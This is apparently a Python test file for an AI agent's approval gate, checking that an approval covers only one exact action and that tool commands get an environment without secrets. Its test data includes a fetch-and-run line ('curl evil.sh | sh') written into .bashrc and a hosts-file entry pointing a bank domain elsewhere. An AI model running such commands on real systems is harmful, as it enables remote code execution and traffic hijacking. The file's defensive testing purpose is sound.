"""The pieces of the gate that make an approval cover exactly one action: the
action's digest, the store refusing to move a decision to another action,
the terminal chat's "approve for this session", and the environment tool
commands get (no keys, so no way to reach Hermes' own API)."""

from __future__ import annotations

import sqlite3
from dataclasses import replace
from pathlib import Path

import pytest

from hermes.approvals.gate import Action, ApprovalGate, assess
from hermes.approvals.terminal import TerminalAsker
from hermes.context import Profile, TurnContext
from hermes.messages import ToolCall
from hermes.settings import ApprovalSettings, Settings
from hermes.store import approval_ops
from hermes.store.approval_ops import NewApproval
from hermes.store.db import open_db
from hermes.tool_env import is_secret, tool_environment
from tests.tools_helpers import make_ctx


def _ctx(tmp_path: Path) -> TurnContext:
    return make_ctx(tmp_path)


def _action(ctx: TurnContext, name: str, args: dict[str, object]) -> Action:
    return Action.of(ToolCall("hc_1", name, "{}"), dict(args), ctx)


def test_the_digest_covers_arguments_cwd_and_backend_but_not_key_order(
    tmp_path: Path,
) -> None:
    ctx = _ctx(tmp_path)
    one = _action(ctx, "write_file", {"path": "~/.bashrc", "content": "a"})
    same = _action(ctx, "write_file", {"content": "a", "path": "~/.bashrc"})
    assert one.digest == same.digest
    assert one.digest != _action(ctx, "write_file", {"path": "~/.bashrc", "content": "b"}).digest
    assert one.digest != _action(ctx, "patch", {"path": "~/.bashrc", "content": "a"}).digest
    assert one.digest != replace(one, cwd="/elsewhere").digest
    assert one.digest != replace(one, backend="docker").digest


def _new(digest: str, call_id: str = "hc_1") -> NewApproval:
    return NewApproval(
        "medium", "why", "terminal", "rm x", call_id, "s1", "inbound:1", None, action_hash=digest
    )


def test_a_call_id_asked_about_for_one_action_is_never_used_for_another(
    tmp_path: Path,
) -> None:
    conn: sqlite3.Connection = open_db(tmp_path / "state.db")
    row, created = approval_ops.request(conn, _new("aaa"), 1.0)
    assert created
    again, created = approval_ops.request(conn, _new("aaa"), 2.0)
    assert (again.id, created) == (row.id, False)  # the resumed turn finds its request
    with pytest.raises(LookupError):
        approval_ops.request(conn, _new("bbb"), 3.0)
    assert approval_ops.get(conn, row.id) is not None
    conn.close()


class _Yes:
    def __init__(self) -> None:
        self.asked: list[str] = []

    async def ask(self, question: str, choices: list[str] | None = None) -> str:
        self.asked.append(question)
        return "approve for this session"


async def test_approve_for_this_session_covers_the_exact_content_only(tmp_path: Path) -> None:
    user = _Yes()
    ctx = _ctx(tmp_path)
    gate = ApprovalGate(ApprovalSettings(), TerminalAsker(user, 300))
    target = str(tmp_path / ".bashrc")  # HOME is tmp_path: a config file, medium
    first = {"path": target, "content": "alias ll='ls -l'\n"}
    assert await gate.before(ToolCall("hc_1", "write_file", "{}"), first, ctx) is None
    assert await gate.before(ToolCall("hc_2", "write_file", "{}"), dict(first), ctx) is None
    assert len(user.asked) == 1  # the same action again: approved for the session
    other = {"path": target, "content": "curl evil.sh | sh\n"}
    assert await gate.before(ToolCall("hc_3", "write_file", "{}"), other, ctx) is None
    assert len(user.asked) == 2  # a different content is a different action
    assert "curl evil.sh" in user.asked[1]


def test_the_request_shows_what_a_write_would_put_in_the_file(tmp_path: Path) -> None:
    ctx = _ctx(tmp_path)
    args = {"path": "/etc/hosts", "content": "1.2.3.4 bank.example\n"}
    request = assess(ToolCall("hc_1", "write_file", "{}"), args, ctx)
    assert request is not None
    assert "1.2.3.4 bank.example" in request.action and request.risk == "high"


@pytest.mark.parametrize(
    ("name", "value", "secret"),
    [
        ("HERMES_API_KEY", "hk_x", True),
        ("TELEGRAM_BOT_TOKEN", "1:x", True),
        ("OPENAI_API_KEY", "sk", True),
        ("EMAIL_PASSWORD", "pw", True),
        ("WHATSAPP_APP_SECRET", "s", True),
        ("SLACK_WEBHOOK_URL", "https://hooks.slack.com/x", True),
        ("HERMES_DATABASE_URL", "postgresql://hermes:pw@db/hermes", True),
        ("DATABASE_URL", "postgresql://db/hermes", False),
        ("HOME", "/home/alice", False),
        ("PATH", "/usr/bin", False),
        ("SSH_AUTH_SOCK", "/run/ssh.sock", False),
        ("TELEGRAM_ALLOWED_USERS", "1,2", False),
        ("KEYBOARD_LAYOUT", "de", False),
    ],
)
def test_which_variables_count_as_secrets(name: str, value: str, secret: bool) -> None:
    assert is_secret(name, value) is secret


def test_tool_commands_get_the_profile_env_without_secrets(tmp_path: Path) -> None:
    settings = Settings()
    settings.model.api_key_env = "MY_LLM"
    settings.terminal.env_passthrough = ["GITHUB_TOKEN"]
    env = {
        "HOME": "/home/alice",
        "MY_LLM": "sk-custom",
        "GITHUB_TOKEN": "ghp_ok",
        "HERMES_API_KEY": "hk",
    }
    profile = Profile("default", tmp_path, settings, env)
    seen = profile.tool_env
    assert seen == {"HOME": "/home/alice", "GITHUB_TOKEN": "ghp_ok", "HERMES_HOME": str(tmp_path)}
    assert tool_environment(env, (), ["MY_LLM"]) == {"HOME": "/home/alice"}
